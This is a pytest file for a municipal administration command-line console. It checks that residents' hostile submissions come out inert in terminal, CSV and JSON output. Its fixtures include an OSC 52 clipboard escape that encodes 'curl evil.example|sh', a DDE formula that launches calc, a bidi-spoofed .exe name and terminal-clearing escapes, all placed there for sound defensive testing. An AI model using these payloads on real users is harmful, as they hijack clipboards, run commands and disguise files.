"""Residents' words are data at every exit of the console's command line: no terminal
control reaches stdout or stderr, no markup is read from them, no CSV cell is a formula,
and `--json` gives the stored text back exactly (ASCII-escaped).

The hostile text is written straight into the server's database, past the server's own
cleaning on the way in, so that it really reaches the console's client: the console's edge
must hold by itself.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import stat
from typing import TYPE_CHECKING, Any

import pytest

from console.api.inert import inert
from console.cli import main
from console.csvcells import cell
from tests.conftest import MemoryKeyring
from tests.live import LiveServer
from tests.test_console_inbox import api
from tests.test_console_participation import later, publish, resident

if TYPE_CHECKING:  # a plugin of conftest, so that pytest rewrites its asserts
    from tests.console_helpers import CommandLine


# Each a different way in: terminal escapes, C1, bidi, markup, formulas, length, emoji.
HOSTILE = {
    "osc52": "copy \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 me",
    "osc0": "\x1b]0;pwned\x07title",
    "osc8": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "csi": "wipe\x1b[2J\x1b[H",
    "c1": "c1 \x9b31m red",
    "bel-nul-del": "bell\x07 nul\x00 del\x7f",
    "bidi": "invoice \u202egnp.exe",
    "markup-close": "a [/] b",
    "markup-link": "[link=https://evil.example]click[/link]",
    "markup-style": "[bold red]loud",
    "markup-action": "[@click=app.quit]x[/]",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula-cmd": "=cmd|' /C calc'!A0",
    "plus": "+31 470 00 00 00",
    "at": "@SUM(A1:A9)",
    "long": "lang " * 2000,
    "emoji": "Fietspad 🚲 café ñ e\u0301",
}
# What must never be written to a terminal raw.
UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)


def test_inert_marks_every_control_and_keeps_the_rest() -> None:
    for text in HOSTILE.values():
        shown = inert(text)
        assert not UNSAFE.search(shown), (text, shown)
    assert inert("a\x1b[2Jb") == "a^[[2Jb"
    assert inert("x\u202ey") == "x<U+202E>y"
    assert inert("c1\x9b") == "c1<U+009B>"
    assert inert("regel\nvolgende\tkolom") == "regel\nvolgende\tkolom"
    assert inert(HOSTILE["emoji"]) == HOSTILE["emoji"]  # nothing dropped that is text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3", "-3"),  # a negative count stays a number
        ("+4.5", "+4.5"),
        (-7, -7),
        ("Gewoon tekst", "Gewoon tekst"),
    ],
)
def test_csv_cells_never_begin_a_formula(value: Any, written: Any) -> None:
    assert cell(value) == written


def _hostile_database(live: LiveServer) -> dict[str, int]:
    """A survey with open answers, a budget with proposals, a message and three reports,
    all carrying the hostile strings (written to the database directly)."""
    with api(live) as http:
        survey = publish(
            http,
            "survey",
            survey={
                "questions": [{"type": "open", "question": {"nl": "Wat wil je kwijt?"}}],
                "closes_at": later(days=5),
            },
        )
        headers = resident(http)
        hood = http.get("/v1/neighbourhoods").json()["items"][0]["id"]
        for i in range(len(HOSTILE)):
            sent = http.post(
                f"/v1/participation/surveys/{survey['id']}/responses", headers=headers,
                json={"id": f"r{i}", "household": f"r{i}", "neighbourhood_id": hood,
                      "answers": [{"question": 0, "text": f"antwoord {i}"}]},
            )  # fmt: skip
            assert sent.status_code == 201, sent.text
        budget = publish(
            http, "citizen_budget", budget={"budget_eur": 50_000, "deadline": later(days=5)}
        )
        for i in range(len(HOSTILE)):
            made = http.post(
                f"/v1/participation/budgets/{budget['id']}/proposals", headers=headers,
                json={"id": f"p{i}", "household": f"p{i}", "neighbourhood_id": hood,
                      "title": f"voorstel {i}", "description": "x", "cost_eur": 1000},
            )  # fmt: skip
            assert made.status_code == 201, made.text
        submissions = [s["id"] for s in http.get("/v1/submissions?limit=3").json()["items"]]
    texts = list(HOSTILE.values())
    with sqlite3.connect(live.database) as db:
        for i, answer_id in enumerate(
            r[0] for r in db.execute("SELECT id FROM open_answers ORDER BY id DESC")
        ):
            db.execute(
                "UPDATE open_answers SET text = ? WHERE id = ?", (texts[i % len(texts)], answer_id)
            )
        for i, proposal_id in enumerate(
            r[0]
            for r in db.execute("SELECT id FROM proposals WHERE message_id = ?", (budget["id"],))
        ):
            text = texts[i % len(texts)]
            db.execute(
                "UPDATE proposals SET title = ?, description = ? WHERE id = ?",
                (text[:140], text, proposal_id),
            )
        for i, sub in enumerate(submissions):
            db.execute(
                "UPDATE submissions SET description = ?, reporter_name = ?, reporter_contact = ?, "
                "address = ? WHERE id = ?",
                (
                    " | ".join(texts),
                    texts[(i + 11) % len(texts)][:200],
                    texts[(i + 12) % len(texts)][:320],
                    texts[i % len(texts)][:300],
                    sub,
                ),
            )
        db.execute(
            "UPDATE city_messages SET title = ? WHERE id = ?",
            (json.dumps({"nl": HOSTILE["osc52"] + HOSTILE["markup-close"]}), budget["id"]),
        )
    return {"survey": survey["id"], "budget": budget["id"], "submission": submissions[0]}


def _no_formula(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            assert cell(value) == value, f"a spreadsheet would run {value!r}"


def test_every_command_prints_residents_words_inert(
    own_server: LiveServer, memory_keyring: MemoryKeyring, cli: CommandLine
) -> None:
    ids = _hostile_database(own_server)
    cli.signed_in(own_server.url, "admin@mechelen.demo")
    commands = [
        ["submissions", "list"],
        ["submissions", "list", "--csv"],
        ["submissions", "list", "--json"],
        ["submissions", "show", str(ids["submission"])],
        ["submissions", "show", str(ids["submission"]), "--json"],
        ["answers", str(ids["survey"])],
        ["answers", str(ids["survey"]), "--csv"],
        ["proposals", "list", str(ids["budget"])],
        ["proposals", "list", str(ids["budget"]), "--json"],
        ["results", str(ids["budget"])],
        ["results", str(ids["budget"]), "--json"],
        ["results", str(ids["budget"]), "--csv"],
        ["messages", "list"],
        ["messages", "list", "--json"],
        ["messages", "show", str(ids["budget"])],
    ]
    for command in commands:
        code = main(command)
        out, err = cli.output()
        assert code == 0, (command, err)
        for stream in (out, err):
            # CSV's own line ends (RFC 4180) are the one CR allowed.
            found = UNSAFE.search(stream.replace("\r\n", "\n") if "--csv" in command else stream)
            assert not found, f"{command} wrote {found.group()!r} to the terminal"
            assert "Traceback" not in stream
        if "--csv" in command:
            _no_formula(out)
        if "--json" in command:
            json.loads(out)  # the machine format stays valid

    # The export: a file for a spreadsheet, with no formula cell.
    exported = cli.home / "export.csv"
    assert main(["submissions", "export", "--output", str(exported)]) == 0
    out, err = cli.output()
    assert not UNSAFE.search(out + err) and "Traceback" not in out + err
    text = exported.read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + HOSTILE["formula"] in cells  # the hostile rows are in it, made text
    _no_formula(text)

    # Markup is not read from the data: it shows as typed.
    assert main(["submissions", "show", str(ids["submission"])]) == 0
    shown = cli.output().out
    assert "[/]" in shown and "[link=https://evil.example]click[/link]" in shown
    assert "[bold red]loud" in shown and "^[]52;c;" in shown and "<U+202E>" in shown
    # --json keeps the stored text exactly (escaped, not made inert).
    assert main(["submissions", "show", str(ids["submission"]), "--json"]) == 0
    stored = json.loads(cli.output().out)
    assert stored["description"] == " | ".join(HOSTILE.values())


def test_the_console_s_own_files_are_private(
    own_server: LiveServer, no_keyring: None, cli: CommandLine
) -> None:
    """Config, credentials and their folders: the owner's alone (0700 / 0600)."""
    previous = os.umask(0o022)  # a usual umask: what we make must not depend on it
    try:
        assert cli.login(own_server.url, "officer@mechelen.demo") == 0
    finally:
        os.umask(previous)
    made = list(cli.home.rglob("*"))
    assert any(p.name == "config.toml" for p in made)
    assert any("credentials" in str(p) for p in made)
    for path in made:
        mode = stat.S_IMODE(path.stat().st_mode)
        if path.is_dir():
            assert mode == 0o700, (path, oct(mode))
        else:
            assert mode == 0o600, (path, oct(mode))


def test_an_unknown_option_is_said_in_a_sentence() -> None:
    from console.api.errors import describe

    said = describe(
        400,
        "unknown-parameter",
        {"parameters": ["neighbourhoods"], "suggestions": {"neighbourhoods": "neighbourhood"}},
    )
    assert "neighbourhoods" in said and "did you mean neighbourhood" in said
    said = describe(400, "unknown-parameter", {"parameters": ["zzz", "yyy"], "suggestions": {}})
    assert "zzz, yyy" in said and "versions" in said


def test_a_held_back_figure_is_said_in_a_sentence() -> None:
    from console.api.errors import describe

    said = describe(403, "suppressed", {"detail": "x"})
    assert "Too few households" in said
